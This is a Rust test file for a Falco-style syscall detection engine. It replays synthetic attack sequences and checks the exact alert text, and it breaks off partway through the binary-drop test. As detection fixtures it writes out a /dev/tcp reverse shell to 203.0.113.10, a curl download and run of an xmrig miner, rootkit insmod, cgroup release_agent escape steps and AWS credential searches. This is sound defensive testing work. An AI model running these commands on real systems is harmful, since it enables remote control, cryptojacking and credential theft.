//! Upstream stable rules 14–25 of `falco_rules.yaml` (file order), end to end: realistic synthetic
//! syscall sequences go through state, evaluation and output, and each rule's alert is checked
//! against the exact line Falco prints for the same events; a near-miss per rule (the one detail
//! the rule excludes) must stay silent.
mod common;

use common::stable::*;
use syssentry_engine::event::ppm::{
    af, clone as cl, exe, ipproto, open::*, ptrace, sock, AT_FDCWD,
};
use syssentry_engine::event::{mk, EventBuilder, EventType, SockAddr, SockTuple};
use syssentry_engine::rules::Priority;
use syssentry_engine::state::{Caps, ContainerInfo};

/// Short and full id of the test container.
const CID: &str = "3ad7b26ded6d";
const CID_FULL: &str = "3ad7b26ded6d8e7b23da7d48fe889434573036c27ae5a74837233de441c3601e";
/// Start time of the container's pid namespace (its init process), before [`T0`].
const CT_START: u64 = T0 - 600_000_000_000;
/// The container's address on the docker bridge.
const CT_IP: &str = "172.17.0.3";

/// Default capabilities of a docker container (CAP_CHOWN … CAP_SETFCAP).
const CAPS_DOCKER: u64 = 0x0000_0000_a804_25fb;
/// Every capability up to CAP_CHECKPOINT_RESTORE (a `--privileged` container's root).
const CAPS_ALL: u64 = 0x0000_01ff_ffff_ffff;
/// CAP_SYS_ADMIN.
const CAP_SYS_ADMIN: u64 = 1 << 21;

/// `/dev/pts/0` and `/dev/pts/1`.
const PTS0: u32 = 34816;
const PTS1: u32 = 34817;

/// glibc `fork()`: `CLONE_CHILD_CLEARTID | CLONE_CHILD_SETTID` in the driver's encoding.
const FORK_FLAGS: u32 = (1 << 25) | (1 << 26);

/// The suggested container fields for a process of the test container.
fn ct_suffix() -> String {
    format!(
        "container_id={CID} container_name=web container_image_repository=docker.io/library/php \
         container_image_tag=8.3-fpm k8s_pod_name=<NA> k8s_ns_name=<NA>"
    )
}

/// Registers the test container (metadata as the runtime reports it) and its users.
fn container(h: &mut Harness, privileged: bool) {
    h.container(ContainerInfo {
        id: CID.into(),
        full_id: CID_FULL.into(),
        name: "web".into(),
        image: "docker.io/library/php:8.3-fpm".into(),
        image_repository: "docker.io/library/php".into(),
        image_tag: "8.3-fpm".into(),
        container_type: "docker".into(),
        privileged,
        ip: CT_IP.into(),
        ..ContainerInfo::default()
    });
    let st = h.state();
    st.users.load_passwd(
        CID,
        "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n",
    );
    st.groups.load_group(CID, "root:x:0:\nwww-data:x:33:\n");
}

/// The cgroups the kernel reports for a process of the test container (systemd cgroup driver).
fn ct_cgroups() -> Vec<String> {
    ["cpuset", "cpu", "memory", "pids"]
        .iter()
        .map(|s| format!("{s}=/system.slice/docker-{CID_FULL}.scope"))
        .collect()
}

/// The host's init and the container's shim, present in every scenario.
fn seed_base(h: &mut Harness) {
    h.process(Proc::new(
        1,
        0,
        "/usr/lib/systemd/systemd",
        &["/sbin/init", "splash"],
    ));
    h.process(Proc::new(
        150,
        1,
        "/usr/bin/containerd-shim-runc-v2",
        &[
            "/usr/bin/containerd-shim-runc-v2",
            "-namespace",
            "moby",
            "-id",
            CID_FULL,
        ],
    ));
}

/// Seeds a process of the test container: in its own pid namespace (`vpid`), session `sid`
/// (a namespace id), with capability set `caps`.
fn seed_ct(h: &mut Harness, p: Proc<'_>, vpid: i64, sid: i64, caps: u64) {
    h.process(Proc {
        container: Some(CID),
        ..p
    });
    let t = h.state().thread_mut(p.pid).expect("seeded");
    t.vtid = vpid;
    t.vpid = vpid;
    t.sid = sid;
    t.caps = std::sync::Arc::new(Caps::new(0, caps, caps));
    t.pidns_init_start_ts = CT_START;
    t.cgroups = std::sync::Arc::new(ct_cgroups());
}

/// `parent` forks `child` (glibc `fork()` = `clone`): the caller's exit event, then the child's
/// (the one that creates a child living in a pid namespace), with what the kernel reports.
fn fork(h: &mut Harness, parent: i64, child: i64, child_vpid: i64) {
    let t = h.engine.state().thread(parent).expect("parent").clone();
    let in_ns = t.vtid != t.tid;
    let flags = FORK_FLAGS | if in_ns { cl::CLONE_CHILD_IN_PIDNS } else { 0 };
    let args: Vec<&str> = t.image.args.iter().map(String::as_str).collect();
    let cgroups: Vec<&str> = t.cgroups.iter().map(String::as_str).collect();
    let vpid = if in_ns { child_vpid } else { child };
    let fill = |b: EventBuilder, pid: i64, ptid: i64, tvpid: i64| {
        b.str("exe", &t.image.exe)
            .list("args", &args)
            .int("pid", pid)
            .int("ptid", ptid)
            .str("cwd", &t.cwd)
            .str("comm", &t.image.comm)
            .list("cgroups", &cgroups)
            .uint("uid", t.uid.into())
            .uint("gid", t.gid.into())
            .int("vtid", tvpid)
            .int("vpid", tvpid)
            .uint("pidns_init_start_ts", t.pidns_init_start_ts)
    };
    let caller = fill(mk::clone(parent, child, flags), t.pid, t.ptid, t.vpid).build();
    h.feed(caller);
    let child_ev = fill(
        mk::clone_child(child, child, parent, flags),
        child,
        parent,
        vpid,
    )
    .build();
    h.feed(child_ev);
}

/// A successful `execve` exit of `tid` with every parameter the driver fills, taken from the
/// thread as it is before the exec (identity, terminal, cgroups) and from the arguments.
fn execve(h: &Harness, tid: i64, exepath: &str, argv: &[&str], flags: u32) -> EventBuilder {
    let t = h.engine.state().thread(tid).expect("exec caller");
    let cgroups: Vec<&str> = t.cgroups.iter().map(String::as_str).collect();
    mk::execve(tid, t.pid, exepath, argv, 0)
        .int("ptid", t.ptid)
        .str("cwd", &t.cwd)
        .uint("fdlimit", 1_048_576)
        .list("cgroups", &cgroups)
        .list(
            "env",
            &["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"],
        )
        .uint("tty", t.tty.into())
        .int("vpgid", t.vpid)
        .uint("loginuid", t.loginuid.into())
        .flags("flags", flags)
        .uint("cap_inheritable", t.caps.inheritable)
        .uint("cap_permitted", t.caps.permitted)
        .uint("cap_effective", t.caps.effective)
        .uint("uid", t.uid.into())
        .int("pgid", t.pid)
        .uint("gid", t.gid.into())
}

fn ipv4(sip: &'static str, sport: u16, dip: &'static str, dport: u16) -> SockTuple<&'static str> {
    SockTuple::Inet {
        sip: sip.parse().unwrap(),
        sport,
        dip: dip.parse().unwrap(),
        dport,
    }
}

// 14 ------------------------------------------------------------------------------------------

#[test]
fn packet_socket_created_in_container() {
    let mut h = Harness::stable();
    seed_base(&mut h);
    container(&mut h, false);
    // `docker exec -it web bash`, then a sniffer from the image.
    seed_ct(
        &mut h,
        Proc {
            tty: PTS0,
            cwd: "/var/www/html/",
            ..Proc::new(200, 150, "/usr/bin/bash", &["bash"])
        },
        7,
        7,
        CAPS_DOCKER,
    );
    fork(&mut h, 200, 201, 8);
    let ev = execve(
        &h,
        201,
        "/usr/bin/tcpdump",
        &["tcpdump", "-i", "eth0", "-w", "/tmp/cap.pcap"],
        exe::EXE_WRITABLE | exe::EXE_LOWER_LAYER,
    );
    h.feed(ev.build());
    let prefix = h.next_prefix();
    // libpcap: socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)).
    let alerts = h.feed(mk::socket(201, af::AF_PACKET, sock::SOCK_RAW, 768, 3).build());
    expect_alert(
        &alerts,
        "Packet socket created in container",
        Priority::Notice,
        &format!(
            "{prefix}: Notice Packet socket was created in a container | socket_info=fd=3(<o>) domain=17(AF_PACKET) \
             type=3 proto=768 flags=0(O_NONE) connection= lport=<NA> rport=<NA> fd_type=<NA> fd_proto=<NA> \
             evt_type=socket user=root user_uid=0 user_loginuid=-1 process=tcpdump proc_exepath=/usr/bin/tcpdump \
             parent=bash command=tcpdump -i eth0 -w /tmp/cap.pcap terminal={PTS0} {}",
            ct_suffix()
        ),
    );

    // Near-miss: the same capture on the host.
    h.process(Proc {
        tty: PTS1,
        ..Proc::new(300, 1, "/usr/bin/bash", &["-bash"])
    });
    fork(&mut h, 300, 301, 0);
    let ev = execve(
        &h,
        301,
        "/usr/bin/tcpdump",
        &["tcpdump", "-i", "eth0"],
        exe::EXE_WRITABLE,
    );
    h.feed(ev.build());
    let alerts = h.feed(mk::socket(301, af::AF_PACKET, sock::SOCK_RAW, 768, 3).build());
    expect_no_alert(&alerts, "Packet socket created in container");
    // Near-miss: an IP raw socket (ping) in the container.
    fork(&mut h, 200, 202, 9);
    let ev = execve(
        &h,
        202,
        "/usr/bin/ping",
        &["ping", "-c1", "10.0.0.1"],
        exe::EXE_WRITABLE | exe::EXE_LOWER_LAYER,
    );
    h.feed(ev.build());
    let alerts = h.feed(mk::socket(202, af::AF_INET, sock::SOCK_RAW, ipproto::ICMP, 3).build());
    expect_no_alert(&alerts, "Packet socket created in container");
}

// 15 ------------------------------------------------------------------------------------------

/// A php-fpm container whose worker (www-data) runs an injected command:
/// `sh -c "bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1'"`; returns the tid of that
/// inner bash, which has opened and connected fd 3 to the attacker.
fn reverse_shell(h: &mut Harness) -> i64 {
    seed_base(h);
    container(h, false);
    seed_ct(
        h,
        Proc::new(
            180,
            150,
            "/usr/local/sbin/php-fpm",
            &["php-fpm: master process (/usr/local/etc/php-fpm.conf)"],
        ),
        1,
        1,
        CAPS_DOCKER,
    );
    seed_ct(
        h,
        Proc {
            uid: 33,
            ..Proc::new(181, 180, "/usr/local/sbin/php-fpm", &["php-fpm: pool www"])
        },
        7,
        1,
        0,
    );
    fork(h, 181, 200, 20);
    let ev = execve(
        h,
        200,
        "/usr/bin/dash",
        &[
            "sh",
            "-c",
            "bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1'",
        ],
        exe::EXE_LOWER_LAYER,
    );
    h.feed(ev.str("comm", "sh").build());
    fork(h, 200, 201, 21);
    let ev = execve(
        h,
        201,
        "/usr/bin/bash",
        &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"],
        exe::EXE_LOWER_LAYER,
    );
    h.feed(ev.build());
    h.feed(mk::socket(201, af::AF_INET, sock::SOCK_STREAM, ipproto::TCP, 3).build());
    h.feed(mk::connect(201, 3, ipv4(CT_IP, 41834, "203.0.113.10", 4444), 0).build());
    201
}

#[test]
fn redirect_stdout_stdin_to_network_connection_in_container() {
    let mut h = Harness::stable();
    let tid = reverse_shell(&mut h);
    let expected = |prefix: &str, ty: &str| {
        format!(
            "{prefix}: Notice Redirect stdout/stdin to network connection | gparent=php-fpm ggparent=php-fpm \
             gggparent=containerd-shim fd.sip=203.0.113.10 connection={CT_IP}:41834->203.0.113.10:4444 lport=41834 \
             rport=4444 fd_type=ipv4 fd_proto=tcp evt_type={ty} user=www-data user_uid=33 user_loginuid=-1 \
             process=bash proc_exepath=/usr/bin/bash parent=sh command=bash -c bash -i >& /dev/tcp/203.0.113.10/4444 0>&1 \
             terminal=0 {}",
            ct_suffix()
        )
    };
    // Near-miss: the socket duplicated onto a high fd (not a standard stream).
    let alerts = h.feed(mk::dup2(tid, 3, 10, 10).build());
    expect_no_alert(
        &alerts,
        "Redirect STDOUT/STDIN to Network Connection in Container",
    );
    // `>&`: the socket onto stdout, then stdout onto stderr; `0>&1`: onto stdin.
    let prefix = h.next_prefix();
    let alerts = h.feed(mk::dup2(tid, 3, 1, 1).build());
    expect_alert(
        &alerts,
        "Redirect STDOUT/STDIN to Network Connection in Container",
        Priority::Notice,
        &expected(&prefix, "dup2"),
    );
    let prefix = h.next_prefix();
    let alerts = h.feed(mk::dup3(tid, 1, 2, 0, 2).build());
    expect_alert(
        &alerts,
        "Redirect STDOUT/STDIN to Network Connection in Container",
        Priority::Notice,
        &expected(&prefix, "dup3"),
    );
    let prefix = h.next_prefix();
    let alerts = h.feed(mk::dup2(tid, 1, 0, 0).build());
    expect_alert(
        &alerts,
        "Redirect STDOUT/STDIN to Network Connection in Container",
        Priority::Notice,
        &expected(&prefix, "dup2"),
    );
    // Near-miss: a failed dup2 onto stdin (EBADF) changes nothing.
    let alerts = h.feed(mk::dup2(tid, 9, 0, -9).build());
    expect_no_alert(
        &alerts,
        "Redirect STDOUT/STDIN to Network Connection in Container",
    );
}

#[test]
fn redirect_stdout_to_network_on_host_is_not_in_container() {
    // Near-miss: the same redirection by a host shell.
    let mut h = Harness::stable();
    h.state().local_addrs.push("192.168.1.23".parse().unwrap());
    h.process(Proc::new(1, 0, "/usr/lib/systemd/systemd", &["/sbin/init"]));
    h.process(Proc::new(
        400,
        1,
        "/usr/bin/bash",
        &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"],
    ));
    h.feed(mk::socket(400, af::AF_INET, sock::SOCK_STREAM, ipproto::TCP, 3).build());
    h.feed(mk::connect(400, 3, ipv4("192.168.1.23", 41834, "203.0.113.10", 4444), 0).build());
    let alerts = h.feed(mk::dup2(400, 3, 1, 1).build());
    expect_no_alert(
        &alerts,
        "Redirect STDOUT/STDIN to Network Connection in Container",
    );
}

// 16 ------------------------------------------------------------------------------------------

/// `docker exec -it web bash` in the test container (its root with capability set `caps`),
/// then `bash` runs `argv` from `exepath` (an image binary); returns the new process's tid.
fn ct_shell_runs(
    h: &mut Harness,
    privileged: bool,
    caps: u64,
    exepath: &str,
    argv: &[&str],
) -> i64 {
    seed_base(h);
    container(h, privileged);
    seed_ct(
        h,
        Proc {
            tty: PTS0,
            ..Proc::new(200, 150, "/usr/bin/bash", &["bash"])
        },
        7,
        7,
        caps,
    );
    fork(h, 200, 201, 8);
    let comm = argv[0].rsplit('/').next().unwrap_or(argv[0]);
    let ev = execve(
        h,
        201,
        exepath,
        argv,
        exe::EXE_WRITABLE | exe::EXE_LOWER_LAYER,
    )
    .str("comm", comm);
    h.feed(ev.build());
    201
}

#[test]
fn linux_kernel_module_injection_detected() {
    let mut h = Harness::stable();
    let tid = ct_shell_runs(
        &mut h,
        true,
        CAPS_ALL,
        "/usr/bin/kmod",
        &["insmod", "/tmp/rootkit.ko"],
    );
    h.feed(mk::openat(tid, AT_FDCWD, "/tmp/rootkit.ko", O_RDONLY | O_CLOEXEC, 0, 3).build());
    let prefix = h.next_prefix();
    let alerts = h.feed(mk::finit_module(tid, 3, "", 0).build());
    expect_alert(
        &alerts,
        "Linux Kernel Module Injection Detected",
        Priority::Warning,
        &format!(
            "{prefix}: Warning Linux Kernel Module injection from container | parent_exepath=/usr/bin/bash \
             gparent=containerd-shim gexepath=/usr/bin/containerd-shim-runc-v2 module=/tmp/rootkit.ko res=SUCCESS \
             evt_type=finit_module user=root user_uid=0 user_loginuid=-1 process=insmod proc_exepath=/usr/bin/kmod \
             parent=bash command=insmod /tmp/rootkit.ko terminal={PTS0} {}",
            ct_suffix()
        ),
    );
}

#[test]
fn linux_kernel_module_injection_without_sys_module_is_not_detected() {
    // Near-miss: the same attempt in a container with docker's default capabilities (no
    // CAP_SYS_MODULE); the kernel refuses it.
    let mut h = Harness::stable();
    let tid = ct_shell_runs(
        &mut h,
        false,
        CAPS_DOCKER,
        "/usr/bin/kmod",
        &["insmod", "/tmp/rootkit.ko"],
    );
    h.feed(mk::openat(tid, AT_FDCWD, "/tmp/rootkit.ko", O_RDONLY | O_CLOEXEC, 0, 3).build());
    let alerts = h.feed(mk::finit_module(tid, 3, "", -1).build());
    expect_no_alert(&alerts, "Linux Kernel Module Injection Detected");
}

// 17 ------------------------------------------------------------------------------------------

#[test]
fn debugfs_launched_in_privileged_container() {
    let mut h = Harness::stable();
    seed_base(&mut h);
    container(&mut h, true);
    seed_ct(
        &mut h,
        Proc {
            tty: PTS0,
            ..Proc::new(200, 150, "/usr/bin/bash", &["bash"])
        },
        7,
        7,
        CAPS_ALL,
    );
    fork(&mut h, 200, 201, 8);
    let ev = execve(
        &h,
        201,
        "/usr/sbin/debugfs",
        &["debugfs", "-w", "/dev/sda1"],
        exe::EXE_WRITABLE | exe::EXE_LOWER_LAYER,
    );
    let prefix = h.next_prefix();
    let alerts = h.feed(ev.build());
    expect_alert(
        &alerts,
        "Debugfs Launched in Privileged Container",
        Priority::Warning,
        &format!(
            "{prefix}: Warning Debugfs launched started in a privileged container | evt_type=execve user=root \
             user_uid=0 user_loginuid=-1 process=debugfs proc_exepath=/usr/sbin/debugfs parent=bash \
             command=debugfs -w /dev/sda1 terminal={PTS0} exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER {}",
            ct_suffix()
        ),
    );
}

#[test]
fn debugfs_in_unprivileged_container_is_not_detected() {
    // Near-miss: the same command in a container that is not privileged.
    let mut h = Harness::stable();
    let mut alerts = Vec::new();
    seed_base(&mut h);
    container(&mut h, false);
    seed_ct(
        &mut h,
        Proc {
            tty: PTS0,
            ..Proc::new(200, 150, "/usr/bin/bash", &["bash"])
        },
        7,
        7,
        CAPS_DOCKER,
    );
    fork(&mut h, 200, 201, 8);
    let ev = execve(
        &h,
        201,
        "/usr/sbin/debugfs",
        &["debugfs", "-w", "/dev/sda1"],
        exe::EXE_WRITABLE | exe::EXE_LOWER_LAYER,
    );
    alerts.extend(h.feed(ev.build()));
    expect_no_alert(&alerts, "Debugfs Launched in Privileged Container");
}

// 18 ------------------------------------------------------------------------------------------

/// The cgroup v1 `release_agent` escape, run as `sh /tmp/escape.sh` by root of a container
/// with capabilities `caps`: the shell opens `release_agent` to write the host-side command.
fn release_agent_write(h: &mut Harness, caps: u64) -> Vec<syssentry_engine::output::Alert> {
    let tid = ct_shell_runs(h, false, caps, "/usr/bin/dash", &["sh", "/tmp/escape.sh"]);
    h.feed(mk::mkdir(tid, "/tmp/cgrp", 0o755, 0).build());
    h.feed(mk::mount(tid, "cgroup", "/tmp/cgrp", "cgroup", 0, 0).build());
    h.feed(
        mk::openat(
            tid,
            AT_FDCWD,
            "/tmp/cgrp/x/notify_on_release",
            O_WRONLY | O_CREAT | O_TRUNC,
            0o666,
            3,
        )
        .build(),
    );
    h.feed(mk::close(tid, 3, 0).build());
    h.feed(
        mk::openat(
            tid,
            AT_FDCWD,
            "/tmp/cgrp/release_agent",
            O_WRONLY | O_CREAT | O_TRUNC,
            0o666,
            3,
        )
        .build(),
    )
}

#[test]
fn detect_release_agent_file_container_escapes() {
    let mut h = Harness::stable();
    let prefix = {
        // The alert comes from the 7th event after seeding (fork: 2, exec, mkdir, mount, open, close).
        let mut p = String::new();
        syssentry_engine::output::write_iso8601(T0 + 8 * 1_000_000, &mut p);
        p
    };
    let alerts = release_agent_write(&mut h, CAPS_DOCKER | CAP_SYS_ADMIN);
    expect_alert(
        &alerts,
        "Detect release_agent File Container Escapes",
        Priority::Critical,
        &format!(
            "{prefix}: Critical Detect an attempt to exploit a container escape using release_agent file | \
             file=/tmp/cgrp/release_agent cap_effective=CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL \
             CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT CAP_SYS_ADMIN CAP_MKNOD \
             CAP_AUDIT_WRITE CAP_SETFCAP evt_type=openat user=root user_uid=0 user_loginuid=-1 process=sh \
             proc_exepath=/usr/bin/dash parent=bash command=sh /tmp/escape.sh terminal={PTS0} {}",
            ct_suffix()
        ),
    );
}

#[test]
fn release_agent_write_without_sys_admin_is_not_detected() {
    // Near-miss: the same writes from a container without CAP_SYS_ADMIN.
    let mut h = Harness::stable();
    let alerts = release_agent_write(&mut h, CAPS_DOCKER);
    expect_no_alert(&alerts, "Detect release_agent File Container Escapes");
}

// 19 ------------------------------------------------------------------------------------------

/// `PTRACE_PEEKDATA` in the driver's encoding.
const PTRACE_PEEKDATA: u32 = 3;

/// alice logged in over ssh: `-bash` (tid 810) on pts/1, login uid 1000, under her sshd.
fn seed_alice(h: &mut Harness) {
    h.process(Proc::new(
        1,
        0,
        "/usr/lib/systemd/systemd",
        &["/sbin/init", "splash"],
    ));
    let alice = |pid, ppid, exepath, argv| Proc {
        uid: 1000,
        loginuid: 1000,
        cwd: "/home/alice/",
        ..Proc::new(pid, ppid, exepath, argv)
    };
    h.process(Proc {
        uid: 0,
        ..alice(800, 1, "/usr/sbin/sshd", &["sshd: alice [priv]"])
    });
    h.process(alice(805, 800, "/usr/sbin/sshd", &["sshd: alice@pts/1"]));
    h.process(Proc {
        tty: PTS1,
        ..alice(810, 805, "/usr/bin/bash", &["-bash"])
    });
}

/// alice's shell runs `argv` from `exepath`; returns the new process's tid.
fn alice_runs(h: &mut Harness, exepath: &str, argv: &[&str]) -> i64 {
    seed_alice(h);
    fork(h, 810, 811, 0);
    let ev = execve(h, 811, exepath, argv, 0);
    h.feed(ev.build());
    811
}

#[test]
fn ptrace_attached_to_process() {
    let mut h = Harness::stable();
    h.process(Proc {
        uid: 1000,
        ..Proc::new(1234, 1, "/usr/bin/python3.12", &["python3", "app.py"])
    });
    let tid = alice_runs(&mut h, "/usr/bin/gdb", &["gdb", "-p", "1234"]);
    let expected = |prefix: &str| {
        format!(
            "{prefix}: Warning Detected ptrace PTRACE_ATTACH attempt | proc_pcmdline=bash evt_type=ptrace user=alice \
             user_uid=1000 user_loginuid=1000 process=gdb proc_exepath=/usr/bin/gdb parent=bash command=gdb -p 1234 \
             terminal={PTS1} {HOST_SUFFIX}"
        )
    };
    let prefix = h.next_prefix();
    let alerts = h.feed(mk::ptrace(tid, ptrace::PTRACE_ATTACH, 1234, 0).build());
    expect_alert(
        &alerts,
        "PTRACE attached to process",
        Priority::Warning,
        &expected(&prefix),
    );
    // Near-miss: reading the tracee's memory is not an attach or an injection.
    let alerts = h.feed(mk::ptrace(tid, PTRACE_PEEKDATA, 1234, 0).build());
    expect_no_alert(&alerts, "PTRACE attached to process");
    // Writing to it is.
    let prefix = h.next_prefix();
    let alerts = h.feed(mk::ptrace(tid, ptrace::PTRACE_POKEDATA, 1234, 0).build());
    expect_alert(
        &alerts,
        "PTRACE attached to process",
        Priority::Warning,
        &expected(&prefix),
    );
}

// 20 ------------------------------------------------------------------------------------------

#[test]
fn ptrace_anti_debug_attempt() {
    let mut h = Harness::stable();
    h.process(Proc::new(
        1,
        0,
        "/usr/lib/systemd/systemd",
        &["/sbin/init", "splash"],
    ));
    h.process(Proc::new(
        500,
        1,
        "/usr/sbin/cron",
        &["/usr/sbin/cron", "-f"],
    ));
    // A cron job (pam_loginuid gives it login uid 0) starts a dropped binary.
    fork(&mut h, 500, 501, 0);
    let ev = execve(
        &h,
        501,
        "/usr/bin/dash",
        &["/bin/sh", "-c", "/tmp/.x/kworker"],
        exe::EXE_WRITABLE,
    );
    h.feed(ev.str("comm", "sh").uint("loginuid", 0).build());
    fork(&mut h, 501, 502, 0);
    let ev = execve(
        &h,
        502,
        "/tmp/.x/kworker",
        &["/tmp/.x/kworker"],
        exe::EXE_WRITABLE,
    );
    h.feed(ev.build());
    let prefix = h.next_prefix();
    let alerts = h.feed(mk::ptrace(502, ptrace::PTRACE_TRACEME, 0, 0).build());
    expect_alert(
        &alerts,
        "PTRACE anti-debug attempt",
        Priority::Notice,
        &format!(
            "{prefix}: Notice Detected potential PTRACE_TRACEME anti-debug attempt | proc_pcmdline=sh -c /tmp/.x/kworker \
             evt_type=ptrace user=root user_uid=0 user_loginuid=0 process=kworker proc_exepath=/tmp/.x/kworker \
             parent=sh command=kworker terminal=0 {HOST_SUFFIX}"
        ),
    );
    expect_no_alert(&alerts, "PTRACE attached to process");
    // Near-miss: the same call from a thread the engine knows nothing about (started before
    // capture, gone from /proc): no process name.
    let alerts = h.feed(mk::ptrace(9999, ptrace::PTRACE_TRACEME, 0, 0).build());
    expect_no_alert(&alerts, "PTRACE anti-debug attempt");
}

// 21 ------------------------------------------------------------------------------------------

fn aws_expected(prefix: &str, process: &str, exepath: &str, command: &str) -> String {
    format!(
        "{prefix}: Warning Detected AWS credentials search activity | proc_pcmdline=bash proc_cwd=/home/alice/ \
         group_gid=1000 group_name=alice user_loginname=alice evt_type=execve user=alice user_uid=1000 \
         user_loginuid=1000 process={process} proc_exepath={exepath} parent=bash command={command} terminal={PTS1} \
         exe_flags=0 {HOST_SUFFIX}"
    )
}

#[test]
fn find_aws_credentials() {
    let mut h = Harness::stable();
    seed_alice(&mut h);
    let cases: &[(&str, &[&str], bool)] = &[
        (
            "/usr/bin/grep",
            &["grep", "-ri", "aws_secret_access_key", "/home/alice"],
            true,
        ),
        (
            "/usr/bin/grep",
            &["grep", "-rl", "AccessKeyId", "/home/alice/projects"],
            true,
        ),
        (
            "/usr/bin/find",
            &["find", "/", "-path", "*/.aws/credentials"],
            true,
        ),
        // Near-misses: grep for a key that is no secret, find by bare file name.
        (
            "/usr/bin/grep",
            &["grep", "-i", "aws_region", "/home/alice/.aws/config"],
            false,
        ),
        (
            "/usr/bin/find",
            &["find", "/", "-name", "credentials"],
            false,
        ),
    ];
    for (i, (exepath, argv, hit)) in cases.iter().enumerate() {
        let child = 811 + i as i64;
        fork(&mut h, 810, child, 0);
        let ev = execve(&h, child, exepath, argv, 0);
        let prefix = h.next_prefix();
        let alerts = h.feed(ev.build());
        if *hit {
            let command = argv.join(" ");
            expect_alert(
                &alerts,
                "Find AWS Credentials",
                Priority::Warning,
                &aws_expected(&prefix, argv[0], exepath, &command),
            );
        } else {
            expect_no_alert(&alerts, "Find AWS Credentials");
        }
    }
}

// 22 ------------------------------------------------------------------------------------------

#[test]
fn execution_from_dev_shm() {
    let mut h = Harness::stable();
    h.process(Proc::new(100, 1, "/usr/bin/bash", &["bash"]));
    fork(&mut h, 100, 101, 0);
    let ev = execve(
        &h,
        101,
        "/dev/shm/payload",
        &["/dev/shm/payload", "-x"],
        exe::EXE_WRITABLE,
    );
    let prefix = h.next_prefix();
    let alerts = h.feed(ev.build());
    expect_alert(
        &alerts,
        "Execution from /dev/shm",
        Priority::Warning,
        &format!(
            "{prefix}: Warning File execution detected from /dev/shm | evt_res=SUCCESS file=<NA> proc_cwd=/root/ \
             proc_pcmdline=bash user_loginname=<NA> group_gid=0 group_name=root evt_type=execve user=root user_uid=0 \
             user_loginuid=-1 process=payload proc_exepath=/dev/shm/payload parent=bash command=payload -x terminal=0 \
             exe_flags=EXE_WRITABLE {HOST_SUFFIX}"
        ),
    );
    // A shell running a script from /dev/shm.
    fork(&mut h, 100, 102, 0);
    let ev = execve(
        &h,
        102,
        "/usr/bin/bash",
        &["bash", "/dev/shm/stage2.sh"],
        exe::EXE_WRITABLE,
    );
    let prefix = h.next_prefix();
    let alerts = h.feed(ev.build());
    expect_alert(
        &alerts,
        "Execution from /dev/shm",
        Priority::Warning,
        &format!(
            "{prefix}: Warning File execution detected from /dev/shm | evt_res=SUCCESS file=<NA> proc_cwd=/root/ \
             proc_pcmdline=bash user_loginname=<NA> group_gid=0 group_name=root evt_type=execve user=root user_uid=0 \
             user_loginuid=-1 process=bash proc_exepath=/usr/bin/bash parent=bash command=bash /dev/shm/stage2.sh \
             terminal=0 exe_flags=EXE_WRITABLE {HOST_SUFFIX}"
        ),
    );
    // Near-miss: a script in /dev/shm run by an interpreter that is not a shell.
    fork(&mut h, 100, 103, 0);
    let ev = execve(
        &h,
        103,
        "/usr/bin/python3.12",
        &["python3", "/dev/shm/stage2.py"],
        exe::EXE_WRITABLE,
    );
    let alerts = h.feed(ev.str("comm", "python3").build());
    expect_no_alert(&alerts, "Execution from /dev/shm");
}

// 23 ------------------------------------------------------------------------------------------

#[test]
fn drop_and_execute_new_binary_in_container() {
    let mut h = Harness::stable();
    seed_base(&mut h);
    container(&mut h, false);
    let fpm = |pid, ppid, argv| Proc {
        cwd: "/var/www/html/",
        ..Proc::new(pid, ppid, "/usr/local/sbin/php-fpm", argv)
    };
    seed_ct(
        &mut h,
        fpm(
            180,
            150,
            &["php-fpm: master process (/usr/local/etc/php-fpm.conf)"],
        ),
        1,
        1,
        CAPS_DOCKER,
    );
    seed_ct(
        &mut h,
        Proc {
            uid: 33,
            ..fpm(181, 180, &["php-fpm: pool www"])
        },
        7,
        1,
        0,
    );
    // An injected command downloads a miner into /tmp (the container's writable layer) and runs it.
    let cmd = "curl -so /tmp/xmrig http://203.0.113.10/x && chmod +x /tmp/xmrig && /tmp/xmrig --donate-level 1";
    fork(&mut h, 181, 200, 20);
    let ev = execve(
        &h,
        200,
        "/usr/bin/dash",
        &["sh", "-c", cmd],
        exe::EXE_LOWER_LAYER,
    );
    h.feed(ev.str("comm", "sh").build());
    // Near-miss: curl comes with the image (lower layer).
    fork(&mut h, 200, 201, 21);
    let ev = execve(
        &h,
        201,
        "/usr/bin/curl",
        &["curl", "-so", "/tmp/xmrig", "http://203.0.113.10/x"],
        exe::EXE_LOWER_LAYER,
    );
    let alerts = h.feed(ev.build());
    expect_no_alert(&alerts, "Drop and execute new binary in container");
    h.feed(
        mk::openat(
            201,
            AT_FDCWD,
            "/tmp/xmrig",
            O_WRONLY | O_CREAT | O_TRUNC | O_F_CREATED,
            0o666,
            5,
        )
        .build(),
    );
    h.feed(mk::close(201, 5, 0).build());
    h.feed(mk::procexit(201).build());
    fork(&mut h, 200, 202, 22);
    h.feed(mk::fchmodat(202, AT_FDCWD, "/tmp/xmrig", 0o755, 0).build());
    h.feed(mk::procexit(202).build());
    // The miner's process starts at T0+15ms (the child's own clone exit creates it: it lives in
    // the container's pid namespace); its inode was written at T0+7ms and chmod-ed at T0+12ms.
    fork(&mut h, 200, 203, 23);
    let (mtime, ctime) = (T0 + 7_000_000, T0 + 12_000_000);
    let ev = execve(
        &h,
        203,
        "/tmp/xmrig",
        &["/tmp/xmrig", "--donate-level", "1"],
        exe::EXE_WRITABLE | exe::EXE_UPPER_LAYER,
    )
    .uint("exe_ino", 2_621_447)
    .uint("exe_ino_ctime", ctime)
    .uint("exe_ino_mtime", mtime);
    let prefix = h.next_prefix();
    let alerts = h.feed(ev.build());
    expect_alert(
        &alerts,
        "Drop and execute new binary in container",
        Priority::Critical,
        &format!(
            "{prefix}: Critical Executing binary not part of base image | proc_exe=/tmp/xmrig proc_sname=php-fpm \
